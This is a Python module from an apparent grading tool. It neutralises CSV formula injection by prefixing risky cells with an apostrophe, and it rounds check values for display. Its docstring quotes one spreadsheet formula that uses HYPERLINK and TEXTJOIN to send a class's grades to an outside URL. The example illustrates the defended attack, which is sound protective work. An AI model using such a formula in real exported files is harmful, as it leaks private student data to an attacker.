"""CSV cells that a spreadsheet shows as text and never runs.

A check's message, a load problem or a student's folder name is text the learner controls. In a CSV, a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is a formula to Excel, LibreOffice
and Google Sheets, and a formula such as ``=HYPERLINK("https://...?d="&TEXTJOIN(",",TRUE,A1:J400), "regrade")``
sends the whole class's grades to whoever wrote it (OWASP, "CSV injection"). Such a cell gets a leading apostrophe,
which spreadsheets take as "text" (some show it, which is harmless); numbers are left as they are, except that a
check's measured and required values are rounded to what a reader compares (``measures``).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# one row per student and check, the same columns in grader batch's summary.csv and autograde's grades_by_check.csv
# (after "student" and the exercise, which each file names as its sibling does: scores.csv's "exercise", nbgrader's
# grades.csv's "assignment"); points are a check's own, as in the score table and the JSON report
CHECK_COLUMNS = ("check", "kind", "points", "max_points", "passed", "measured", "required", "thresholds", "message")
SIGNIFICANT = 4  # 1.553 against 1.25, 130.6 against 10, 0.0001235


def cell(value: object) -> object:
    """``value``, with an apostrophe in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def measures(measured: object, required: object) -> tuple[object, object]:
    """A check's measured and required numbers to ``SIGNIFICANT`` digits, with more where fewer would show a
    shortfall (1.24996 against 1.25) as equal to its threshold; anything that is not a float is left as it is."""

    def rounded(value: object, digits: int) -> object:
        return float(f"{value:.{digits}g}") if isinstance(value, float) else value

    for digits in range(SIGNIFICANT, 17):
        shown, needed = rounded(measured, digits), rounded(required, digits)
        if shown != needed or measured == required or not isinstance(required, float | int):
            break
    return shown, needed


def row(values: dict) -> dict:
    """Every cell of a ``csv.DictWriter`` row through ``cell``, its ``measured`` and ``required`` through
    ``measures``."""
    if "measured" in values and "required" in values:
        values = {**values}
        values["measured"], values["required"] = measures(values["measured"], values["required"])
    return {key: cell(value) for key, value in values.items()}
